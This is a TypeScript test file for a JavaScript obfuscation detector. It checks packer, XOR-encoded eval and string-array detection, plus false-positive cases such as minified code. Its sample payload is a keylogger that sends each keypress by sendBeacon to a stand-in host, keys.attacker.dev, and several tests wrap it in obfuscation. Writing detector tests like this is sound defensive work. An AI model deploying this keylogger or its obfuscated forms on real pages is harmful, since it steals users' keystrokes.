import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { factsOf } from '../../testing/facts-of.ts';
import { packed } from '../../testing/packer.ts';
import { withStringArray } from '../../testing/string-array.ts';

const code =
  "document.addEventListener('keydown', function (pressed) { navigator.sendBeacon('https://keys.attacker.dev/k', pressed.key); localStorage.setItem('typed', String(pressed.key)); console.error('nothing to see', location.hostname); });";

function kinds(source: string): readonly string[] {
  return factsOf(source).obfuscation.map(({ kind }) => kind);
}

describe('obfuscation', () => {
  it('is named for a packer under whatever names', () => {
    assert.deepEqual(kinds(packed(code, 'w,x,y,z,q,r')), ['packer']);
  });

  it('is named for code that a decoder of the script gives back', () => {
    const masked = Array.from(code, (letter) => letter.charCodeAt(0) ^ 91).join();
    assert.deepEqual(
      kinds(
        `var s = '', d = [${masked}]; for (var i = 0; i < d.length; i++) s += String.fromCharCode(d[i] ^ 91); eval(s)`,
      ),
      ['encoded-blob'],
    );
  });

  it('is named for a turned string array of each form', () => {
    for (const array of ['literal', 'function', 'arrow'] as const) {
      const source = withStringArray((word) => `f(${word('a')})`, {
        encoding: 'base64',
        array,
        turns: 2,
      });
      assert.deepEqual(kinds(source), ['string-array-rotation']);
    }
  });

  const honest: readonly [string, string][] = [
    [
      'code that is put together from lines',
      `new Function('data', [${code
        .split(' ')
        .map((part) => JSON.stringify(part))
        .join()}].join(' '))`,
    ],
    ['code of a development build', `eval(${JSON.stringify(code)})`],
    [
      'minified code',
      `!function(e,t){"use strict";${Array.from({ length: 60 }, (_, index) => `function n${index}(e,t){return t=t||{},e&&e.x${index}?e.x${index}(t):"${index}"+t}`).join(';')}}(this,{});`,
    ],
    [
      'a queue that goes round',
      'function next(jobs) { const job = jobs.shift(); jobs.push(job); return job; } const ring = [f, g]; ring.push(ring.shift());',
    ],
    [
      'a table of bytes',
      `const table = [${Array.from({ length: 300 }, (_, index) => `0x${index.toString(16)}`).join()}]; out(String.fromCharCode(table[i]))`,
    ],
  ];
  for (const [what, source] of honest) {
    it(`is not seen in ${what}`, () => assert.deepEqual(kinds(source), []));
  }
});
